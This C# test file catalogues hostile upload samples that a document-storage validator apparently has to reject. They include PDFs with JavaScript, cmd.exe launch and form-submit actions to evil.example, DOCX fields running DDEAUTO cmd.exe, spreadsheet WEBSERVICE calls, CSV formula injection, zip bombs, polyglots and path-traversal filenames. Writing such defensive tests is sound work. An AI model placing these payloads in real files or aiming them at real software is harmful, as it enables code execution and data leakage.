using System.Text;
using PragueProcess.Model.Entities;
using static PragueProcess.Tests.Files.SampleFiles;

namespace PragueProcess.Tests.Files;

/// <summary>Files that nobody may store: each is named by what is wrong with it.</summary>
internal static class HostileFiles
{
    private const string Page = "<!doctype html><script>alert(1)</script>";
    private const string Svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>";
    private const string Script = "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>";
    private const string Address = "<</S/URI/URI(http://evil.example)>>";
    private const int Bomb = 40 * 1024 * 1024;

    private static readonly byte[] Archive = Zip([new("a.txt", "a")]);

    public static IReadOnlyDictionary<string, (string Name, Func<byte[]> Bytes)> All { get; } = new Dictionary<string, (string, Func<byte[]>)>
    {
        ["a picture that runs"] = ("a.svg", () => Text(Svg)),
        ["a page"] = ("a.html", () => Text(Page)),
        ["a program"] = ("a.exe", () => Text("MZ")),
        ["a document with macros"] = ("a.docm", () => Zip(OpenXml(FileType.Docx))),
        ["an archive"] = ("a.zip", () => Archive),
        ["no extension"] = ("README", () => Text("a,b")),
        ["nothing"] = ("a.pdf", () => []),
        ["a page called PDF"] = ("a.pdf", () => Text(Page)),
        ["a picture called PDF"] = ("a.pdf", () => Png()),
        ["a PDF called picture"] = ("a.png", () => Pdf("a")),
        ["a PNG called JPEG"] = ("a.jpg", () => Png()),
        ["a PDF called DOCX"] = ("a.docx", () => Pdf("a")),
        ["an archive called DOCX"] = ("a.docx", () => Archive),
        ["a DOCX called XLSX"] = ("a.xlsx", () => Zip(OpenXml(FileType.Docx))),
        ["a DOCX called ODT"] = ("a.odt", () => Zip(OpenXml(FileType.Docx))),
        ["an ODT called ODS"] = ("a.ods", () => Zip(OpenDocument(FileType.Odt))),
        ["a PDF and an archive"] = ("a.pdf", () => [.. Pdf("a"), .. Archive]),
        ["a PDF in the comment of an archive"] = ("a.pdf", () => [.. Pdf("a")[..^6], .. Archive[..^2], 6, 0, .. "%%EOF\n"u8]),
        ["a PDF behind something"] = ("a.pdf", () => [.. "GIF89a"u8, .. Pdf("a")]),
        ["a PDF that begins a page"] = ("a.pdf", () => Text(Encoding.Latin1.GetString(Pdf("a")).Replace("%PDF-1.7\n", $"%PDF-1.7\n%{Page}\n", StringComparison.Ordinal))),
        ["a PDF without its end"] = ("a.pdf", () => Pdf("a")[..^20]),
        ["a PDF that is none behind its first line"] = ("a.pdf", () => Text("%PDF-1.7\nnothing\n%%EOF\n")),
        ["a PDF with a script"] = ("a.pdf", () => Pdf("a", Script)),
        ["a PDF with a script under another spelling"] = ("a.pdf", () => Pdf("a", Script.Replace("JavaScript", "J#61vaScr#69pt", StringComparison.Ordinal))),
        ["a PDF with a packed script"] = ("a.pdf", () => PackedPdf($"<</Type/Catalog/Pages 2 0 R{Script}>>")),
        ["a PDF that starts a program"] = ("a.pdf", () => Pdf("a", "/OpenAction<</S/Launch/F(cmd.exe)>>")),
        ["a PDF that opens an address"] = ("a.pdf", () => Pdf("a", $"/OpenAction{Address}")),
        ["a PDF that opens an address which lies elsewhere in it"] = ("a.pdf", () => Pdf("a", "/OpenAction 5 0 R", "", "<</S 6 0 R/URI(http://evil.example)>>", "/URI")),
        ["a PDF that opens an address after its first page"] = ("a.pdf", () => Pdf("a", $"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[{Address}]>>")),
        ["a PDF that opens an address when it is closed"] = ("a.pdf", () => Pdf("a", $"/AA<</WC{Address}>>")),
        ["a PDF that opens an address and is packed"] = ("a.pdf", () => PackedPdf($"<</Type/Catalog/Pages 2 0 R/OpenAction{Address}>>")),
        ["a PDF whose page opens an address"] = ("a.pdf", () => PdfWithPage($"/AA<</O{Address}>>")),
        ["a PDF whose picture opens an address"] = ("a.pdf", () => PdfWithPage($"/Annots[<</Type/Annot/Subtype/Stamp/Rect[0 0 9 9]/AA<</PO{Address}>>>>]")),
        ["a PDF whose field opens an address"] = ("a.pdf", () => Pdf("a", "/AcroForm<</Fields[5 0 R]>>", "", "<</T(a)/Kids[6 0 R]>>", $"<</FT/Tx/T(b)/Parent 5 0 R/AA<</Fo{Address}>>>>")),
        ["a PDF that opens an address under another generation"] = ("a.pdf", () => Pdf("a", "/OpenAction 5 1 R", "", Address)),
        ["a PDF that opens an address and says nowhere where it lies"] = ("a.pdf", () => SectionedPdfs.WithoutSections("/OpenAction 5 0 R", Address)),
        ["a PDF whose update opens an address"] = ("a.pdf", () => SectionedPdfs.Updated($"/OpenAction{Address}")),
        ["a PDF whose update opens an address and lies before"] = ("a.pdf", () => SectionedPdfs.Backwards($"/OpenAction{Address}")),
        ["a PDF whose update has a packed script and lies before"] = ("a.pdf", () => SectionedPdfs.PackedBackwards(Script)),
        ["a PDF of two catalogues of which one opens an address"] = ("a.pdf", () => SectionedPdfs.OfTwoCatalogues($"/OpenAction{Address}")),
        ["a PDF with a packed script under a number that is there twice"] = ("a.pdf", () => SectionedPdfs.OfTwins(Script)),
        ["a PDF that has to be repaired"] = ("a.pdf", SectionedPdfs.Lost),
        ["a PDF that opens another file"] = ("a.pdf", () => Pdf("a", "/OpenAction<</S/GoToR/F(//evil.example/a.pdf)/D[0/Fit]>>")),
        ["a PDF whose action is also on its page"] = ("a.pdf", () => PdfOf("a", $"/Annots[5 0 R]/AA<</O 5 0 R>>", "", "", [Address])),
        ["a PDF of which a page is an action"] = ("a.pdf", () => PdfOf("a", $"/AA<</O{Address}>>", "/OpenAction 2 0 R", "", [])),
        ["a PDF with an endless list of actions"] = ("a.pdf", () => WithActions(600_000)),
        ["a PDF with an attachment"] = ("a.pdf", () => Pdf("a", "/Names<</EmbeddedFiles 5 0 R>>")),
        ["a PDF with a form of XML"] = ("a.pdf", () => Pdf("a", "/AcroForm<</XFA 5 0 R>>")),
        ["a PDF that sends what is typed"] = ("a.pdf", () => Pdf("a", "/OpenAction<</S/SubmitForm/F(http://evil.example)>>")),
        ["a PDF that is locked"] = ("a.pdf", () => Pdf("a", "", "/Encrypt<</Filter/Standard/V 1/R 2/O(x)/U(y)/P -4>>")),
        ["a PDF that unpacks to too much"] = ("a.pdf", () => PackedPdf("<</Type/Catalog/Pages 2 0 R>>", Bomb)),
        ["a DOCX that unpacks to too much"] = ("a.docx", () => Zip([.. OpenXml(FileType.Docx), new("big.xml", new string(' ', Bomb))])),
        ["a DOCX with a text that is too long to be held"] = ("a.docx", () => WithMain(FileType.Docx, $"<![CDATA[{string.Concat(Enumerable.Repeat($"{new string('x', 1_000_000)}<", 8))}]]>")),
        ["a DOCX of too many parts"] = ("a.docx", () => Zip([.. OpenXml(FileType.Docx), .. Enumerable.Range(0, 6000).Select(part => new KeyValuePair<string, string>($"{part}.xml", ""))])),
        ["a DOCX of workbooks that unpack to too much together"] = ("a.docx", () => WithWorkbooks(12).Bytes),
        ["a DOCX with a way out"] = ("a.docx", () => Docx("../../evil.xml", "<a/>")),
        ["a DOCX with a path"] = ("a.docx", () => Docx("/etc/evil.xml", "<a/>")),
        ["a DOCX with a part twice"] = ("a.docx", () => Docx("MAIN.xml", "<a/>")),
        ["a DOCX behind something"] = ("a.docx", () => [.. "#!/bin/sh\n"u8, .. Zip(OpenXml(FileType.Docx))]),
        ["a DOCX before something"] = ("a.docx", () => [.. Zip(OpenXml(FileType.Docx)), .. Text(Page)]),
        ["a DOCX with macros within"] = ("a.docx", () => Docx("word/vbaProject.bin", "x")),
        ["a DOCX that says it has macros"] = ("a.docx", () => Zip(Changed(OpenXml(FileType.Docx), "[Content_Types].xml", "<Override", "<Default Extension=\"a\" ContentType=\"application/vnd.ms-office.vbaProject\"/><Override"))),
        ["a DOCX with a template elsewhere"] = ("a.docx", () => Docx("word/_rels/settings.xml.rels", Links("attachedTemplate", "https://evil.example/a.dotm", "External"))),
        ["a DOCX with a template on another machine"] = ("a.docx", () => Docx("word/_rels/settings.xml.rels", Links("attachedTemplate", "file:////evil.example/a.dotm", "External"))),
        ["a DOCX that takes in a page"] = ("a.docx", () => Docx("word/_rels/document.xml.rels", Links("aFChunk", "chunk.xml", "Internal"))),
        ["a DOCX that says it holds a page"] = ("a.docx", () => WithType(FileType.Docx, "text/html")),
        ["a DOCX that says it holds a text of another kind"] = ("a.docx", () => WithType(FileType.Docx, "application/rtf")),
        ["a DOCX that says it holds a mail"] = ("a.docx", () => WithType(FileType.Docx, "message/rfc822")),
        ["an XLSX that is filled from elsewhere"] = ("a.xlsx", () => WithType(FileType.Xlsx, "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml")),
        ["an XLSX that is filled from elsewhere and does not say so"] = ("a.xlsx", () => Zip([.. OpenXml(FileType.Xlsx), new("xl/_rels/workbook.xml.rels", Links("connections", "a.xml", "Internal"))])),
        ["an XLSX with a cell that asks another host under another name"] = ("a.xlsx", () => WithMain(FileType.Xlsx, "<f>_xlfn.&#87;EB<!-- -->SERVICE(\"https://evil.example\")</f>")),
        ["an XLSX with a cell that asks another host"] = ("a.xlsx", () => Zip([.. OpenXml(FileType.Xlsx), new("xl/worksheets/a.xml", "<f>_xlfn.WEBSERVICE(\"https://evil.example\")</f>")])),
        ["an ODS with a cell that asks another host"] = ("a.ods", () => LinkedFile(FileType.Ods, "content.xml", "<table:table-cell table:formula=\"of:=WEBSERVICE(&quot;https://evil.example&quot;)\"/>")),
        ["an ODS with a cell that asks another host under another name"] = ("a.ods", () => LinkedFile(FileType.Ods, "content.xml", "<table:table-cell table:formula=\"of:=1+COM.MICROSOFT.&#87;EBSERVICE(&quot;https://evil.example&quot;)\"/>")),
        ["an ODS with a cell that asks another program"] = ("a.ods", () => LinkedFile(FileType.Ods, "content.xml", "<table:table-cell table:formula=\"of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;A1&quot;)\"/>")),
        ["an ODS with a name that asks another host"] = ("a.ods", () => LinkedFile(FileType.Ods, "content.xml", "<table:named-expression table:expression=\"of:=1+WEBSERVICE(&quot;https://evil.example&quot;)\"/>")),
        ["an ODS with a cell from elsewhere"] = ("a.ods", () => LinkedFile(FileType.Ods, "content.xml", "<table:table-cell table:formula=\"of:=[&#39;https://evil.example/a.ods'#$Sheet1.A1]\"/>")),
        ["an ODS with a cell from another machine"] = ("a.ods", () => LinkedFile(FileType.Ods, "content.xml", "<table:table-cell table:formula=\"of:=['//evil.example/a.ods'#$Sheet1.A1]\"/>")),
        ["an ODS with a cell from a disk"] = ("a.ods", () => LinkedFile(FileType.Ods, "content.xml", "<table:table-cell table:formula=\"of:=SUM([' file:/a.ods'#$Sheet1.A1])\"/>")),
        ["an ODS with a format that asks another host"] = ("a.ods", () => LinkedFile(FileType.Ods, "content.xml", "<c:condition xmlns:c=\"urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0\" c:value=\"formula-is(WEBSERVICE(&quot;https://evil.example&quot;))\"/>")),
        ["a DOCX with a picture elsewhere"] = ("a.docx", () => Docx("word/_rels/document.xml.rels", Links("image", "https://evil.example/a.png", "External"))),
        ["a DOCX with a program"] = ("a.docx", () => Docx("word/embeddings/a.exe", "MZ")),
        ["a DOCX with entities that multiply"] = ("a.docx", () => Docx("word/a.xml", "<!DOCTYPE a [<!ENTITY b \"bb\">]><a>&b;</a>")),
        ["a DOCX that starts a program"] = ("a.docx", () => Docx("word/a.xml", "<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>")),
        ["a DOCX that starts a program in pieces"] = ("a.docx", () => WithMain(FileType.Docx, Field(" D", "DE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe"))),
        ["a DOCX that starts a program when it is asked"] = ("a.docx", () => WithMain(FileType.Docx, Field(" dde c:\\\\cmd.exe"))),
        ["a DOCX that starts a program behind another field"] = ("a.docx", () => WithMain(FileType.Docx, $"{Field("QUOTE a")}<w:instrText>DDE c:\\\\cmd.exe</w:instrText>")),
        ["a DOCX that starts a program in short"] = ("a.docx", () => WithMain(FileType.Docx, "<w:fldSimple w:instr=\" DD&#69; c:\\\\cmd.exe\"/>")),
        ["a DOCX that starts a program from what is called a picture"] = ("a.docx", () => WithMain(FileType.Docx, Field("DDE c:\\\\cmd.exe"), "main.png")),
        ["an ODT with macros"] = ("a.odt", () => Zip([.. OpenDocument(FileType.Odt), new("Basic/Standard/Module1.xml", "<a/>")])),
        ["an ODT that calls a macro"] = ("a.odt", () => Zip([.. OpenDocument(FileType.Odt), new("styles.xml", "<a href=\"vnd.sun.star.script:a\"/>")])),
        ["an ODT with a macro that starts by itself"] = ("a.odt", () => LinkedOdt("content.xml", "<office:scripts><office:event-listeners><s:event-listener xmlns:s=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\" s:language=\"ooo:script\" s:event-name=\"dom:load\" xlink:href=\"&#118;nd.sun.star.script:a?language=Python&amp;location=share\"/></office:event-listeners></office:scripts>")),
        ["an ODT with a macro under a newer vocabulary"] = ("a.odt", () => LinkedOdt("content.xml", "<s:event-listener xmlns:s=\"urn:oasis:names:tc:opendocument:xmlns:script:1.1\" s:event-name=\"dom:load\" xlink:href=\"a\"/>")),
        ["an ODT with a script"] = ("a.odt", () => LinkedOdt("content.xml", "<text:p s:language=\"Basic\" xmlns:s=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\"/>")),
        ["an ODT with a script of no language"] = ("a.odt", () => LinkedOdt("content.xml", "<office:script/>")),
        ["an ODT that names a macro"] = ("a.odt", () => LinkedOdt("content.xml", "<presentation:event-listener s:macro-name=\"a\" xmlns:s=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\"/>")),
        ["an ODT whose link calls a macro"] = ("a.odt", () => LinkedOdt("content.xml", "<text:a xlink:href=\"&#118;nd.sun.star.script:a\"/>")),
        ["an ODT whose link calls a macro under another name"] = ("a.odt", () => LinkedOdt("content.xml", "<text:a xlink:href=\"&#109;acro:a\"/>")),
        ["an ODT whose link gives an order"] = ("a.odt", () => LinkedOdt("content.xml", "<text:a xlink:href=\".uno:Quit\"/>")),
        ["an ODT whose link opens a file"] = ("a.odt", () => LinkedOdt("content.xml", "<draw:a xlink:href=\"file:///etc/a\"/>")),
        ["an ODT whose link opens another machine"] = ("a.odt", () => LinkedOdt("content.xml", "<draw:area-circle xlink:href=\"\\\\evil.example\\a\"/>")),
        ["an ODT whose link runs"] = ("a.odt", () => LinkedOdt("content.xml", "<text:a xlink:href=\"java&#10;script:alert(1)\"/>")),
        ["an ODT with a key that calls a macro"] = ("a.odt", () => LinkedOdt("Configurations2/accelerator/current.xml", "<a xlink:href=\"&#118;nd.sun.star.script:a\"/>")),
        ["an ODT with a menu that calls a macro"] = ("a.odt", () => LinkedOdt("Configurations2/menubar/menubar.xml", "<m:menuitem xmlns:m=\"http://openoffice.org/2001/menu\" m:id=\"&#118;nd.sun.star.script:a\"/>")),
        ["an ODT with settings from elsewhere"] = ("a.odt", () => LinkedOdt("settings.xml", "<office:settings xlink:href=\"&#104;ttps://evil.example\"/>")),
        ["an ODT with facts from elsewhere"] = ("a.odt", () => LinkedOdt("manifest.rdf", "<office:meta xlink:href=\"&#104;ttps://evil.example\"/>")),
        ["an ODT without content"] = ("a.odt", () => Zip(new Dictionary<string, string>(OpenDocument(FileType.Odt)) { ["content.xml"] = "" })),
        ["an ODP whose shape starts a program"] = ("a.odp", () => LinkedFile(FileType.Odp, "content.xml", "<presentation:event-listener presentation:action=\"execute\" xlink:href=\"a.exe\"/>")),
        ["an ODP whose shape starts a macro"] = ("a.odp", () => LinkedFile(FileType.Odp, "content.xml", "<presentation:event-listener presentation:action=\"macro\" xlink:href=\"a.exe\"/>")),
        ["an ODP whose shape starts an object"] = ("a.odp", () => LinkedFile(FileType.Odp, "content.xml", "<presentation:event-listener presentation:action=\"verb\" xlink:href=\"a.exe\"/>")),
        ["an ODT with a picture elsewhere"] = ("a.odt", () => LinkedOdt("content.xml", "<draw:image xlink:href=\"https://evil.example/a.png\"/>")),
        ["an ODT with a picture elsewhere under another name"] = ("a.odt", () => LinkedOdt("content.xml", "<d:image xmlns:d=\"urn:oasis:names:tc:opendocument:xmlns:drawing:1.0\" xmlns:l=\"http://www.w3.org/1999/xlink\" l:href=\" &#104;ttp://evil.example/a.png\"/>")),
        ["an ODT with a picture on another machine"] = ("a.odt", () => LinkedOdt("content.xml", "<draw:image xlink:href=\"//evil.example/a.png\"/>")),
        ["an ODT with a picture from a disk"] = ("a.odt", () => LinkedOdt("content.xml", "<draw:image xlink:href=\"file:///etc/a.png\"/>")),
        ["an ODT with an object elsewhere"] = ("a.odt", () => LinkedOdt("content.xml", "<draw:object xlink:href=\"ftp://evil.example/a.ods\"/>")),
        ["an ODT with a section from elsewhere"] = ("a.odt", () => LinkedOdt("content.xml", "<text:section-source xlink:href=\"https://evil.example/a.odt\"/>")),
        ["an ODT with a background from elsewhere"] = ("a.odt", () => LinkedOdt("styles.xml", "<style:background-image xlink:href=\"https://evil.example/a.png\"/>")),
        ["an ODT with a template elsewhere"] = ("a.odt", () => LinkedOdt("meta.xml", "<meta:template xlink:href=\"https://evil.example/a.ott\"/>")),
        ["an ODT with a template on another machine"] = ("a.odt", () => LinkedOdt("meta.xml", "<meta:template xlink:href=\"file:////evil.example/a.ott\"/>")),
        ["an ODT that loads another page"] = ("a.odt", () => LinkedOdt("meta.xml", "<meta:auto-reload xlink:href=\"https://evil.example\"/>")),
        ["an ODT with a table from elsewhere"] = ("a.odt", () => LinkedOdt("content.xml", "<table:table-source xlink:href=\"https://evil.example/a.ods\"/>")),
        ["an ODT with a form that is sent elsewhere"] = ("a.odt", () => LinkedOdt("content.xml", "<form:form xlink:href=\"https://evil.example\"/>")),
        ["an ODT with a chart of figures from elsewhere"] = ("a.odt", () => LinkedOdt("Object 1/content.xml", "<chart:chart xlink:href=\"https://evil.example/a.ods\"/>")),
        ["an ODT that is no XML"] = ("a.odt", () => LinkedOdt("content.xml", "<text:p>")),
        ["an ODT that is nested without end"] = ("a.odt", () => LinkedOdt("content.xml", string.Concat(Enumerable.Repeat("<text:p>", 2000)) + string.Concat(Enumerable.Repeat("</text:p>", 2000)))),
        ["an ODT of too many names"] = ("a.odt", () => LinkedOdt("content.xml", string.Concat(Enumerable.Range(0, 30_000).Select(name => $"<a{name}/>")))),
        ["an ODT with a name that is too long"] = ("a.odt", () => LinkedOdt("content.xml", $"<text:p text:style-name=\"{new string('a', 3 * 1024 * 1024)}\"/>")),
        ["an ODT that is locked"] = ("a.odt", () => Zip(Changed(OpenDocument(FileType.Odt), "META-INF/manifest.xml", "<manifest/>", "<manifest><encryption-data/></manifest>"))),
        ["a table that is a page"] = ("a.csv", () => Text(Page)),
        ["a table of bytes"] = ("a.csv", () => [1, 2, 0, 3]),
        ["a table that is no UTF-8"] = ("a.csv", () => [(byte)'a', 0xFF, 0xFE]),
        ["a table that computes"] = ("a.csv", () => Text("a;b\n1;\"=HYPERLINK(\"\"http://evil.example\"\")\"\n")),
        ["a table that starts a program"] = ("a.csv", () => Text("a,b\n-2+3+cmd|' /C calc'!A0,1\n")),
        ["a table that starts a program late"] = ("a.csv", () => Text("a,b\n-1+1+1+1+1+1+1+1+1+1+cmd|' /C calc'!A0,1\n")),
        ["a table that names its separator"] = ("a.csv", () => Text("sep=|\nname|=HYPERLINK(\"http://evil.example\";\"x\")\n")),
        ["a table that names its separator behind a mark"] = ("a.csv", () => Text("\ufeff\"SEP=a\"\nnamea=HYPERLINK(\"http://evil.example\";\"x\")\n")),
        ["a table that reads backwards"] = ("a.csv", () => Text("a,b\n\u202Eevil,1\n")),
        ["a PNG and an archive"] = ("a.png", () => [.. Png(), .. Archive]),
        ["a PNG with a page in it"] = ("a.png", () => Png(comment: Page)),
        ["a PNG of too many pixels"] = ("a.png", () => Png(width: 1_000_000_000)),
        ["half a PNG"] = ("a.png", () => Png()[..^8]),
        ["a JPEG and an archive"] = ("a.jpg", () => [.. Jpeg(), .. Archive[..^2], 2, 0, 0xFF, 0xD9]),
        ["a JPEG without its end"] = ("a.jpg", () => Jpeg()[..^2]),
        ["a WebP that is longer than it says"] = ("a.webp", () => [.. WebP(), 0, 0]),
        ["a name that leads up"] = ("../../etc/passwd.pdf", () => Pdf("a")),
        ["a name that leads up on Windows"] = ("..\\..\\boot.pdf", () => Pdf("a")),
        ["a name of a disk"] = ("C:a.pdf", () => Pdf("a")),
        ["a name that reads backwards"] = ("exe\u202Egpj.pdf", () => Pdf("a")),
        ["a name with something unseen"] = ("a\u200B.pdf", () => Pdf("a")),
        ["a name of a device"] = ("con.pdf", () => Pdf("a")),
        ["a name of nothing but its type"] = (".pdf", () => Pdf("a")),
        ["a name that is too long"] = ($"{new string('a', 200)}.pdf", () => Pdf("a")),
        ["a name with another line"] = ("a\u0085b.pdf", () => Pdf("a")),
    };

    private static byte[] Text(string text) => Encoding.UTF8.GetBytes(text);

    private static byte[] LinkedOdt(string part, string elements) => LinkedFile(FileType.Odt, part, elements);

    private static byte[] LinkedFile(FileType type, string part, string elements) => Zip(new Dictionary<string, string>(OpenDocument(type)) { [part] = LinkedContent(elements) });

    private static byte[] Docx(string part, string text) => Zip([.. OpenXml(FileType.Docx), new(part, text)]);

    /// <summary>A PDF with an action after which it follows itself, again and again.</summary>
    public static byte[] WithActions(int count) =>
        Pdf("a", "/OpenAction 5 0 R", "", "<</S/GoTo/D[3 0 R/Fit]/Next 6 0 R>>", $"[{string.Concat(Enumerable.Repeat("5 0 R ", count))}]");

    /// <summary>A document with workbooks in it, each of which alone is small enough.</summary>
    public static (string Name, byte[] Bytes) WithWorkbooks(int count)
    {
        var workbook = Zip([.. OpenXml(FileType.Xlsx), new("big.xml", new string(' ', 5 * 1024 * 1024))]);
        return ("a.docx", ZipOf([.. OpenXml(FileType.Docx).Select(Part), .. Enumerable.Range(0, count).Select(number => new KeyValuePair<string, byte[]>($"word/embeddings/{number}.xlsx", workbook))]));
    }

    private static byte[] WithType(FileType type, string other) => Zip(Changed(OpenXml(type), "[Content_Types].xml", "<Override", $"<Override PartName=\"/part.xml\" ContentType=\"{other}\"/><Override"));

    private static KeyValuePair<string, byte[]> Part(KeyValuePair<string, string> part) => new(part.Key, Text(part.Value));

    private static Dictionary<string, string> Changed(Dictionary<string, string> parts, string part, string old, string other)
    {
        parts[part] = parts[part].Replace(old, other, StringComparison.Ordinal);
        return parts;
    }
}
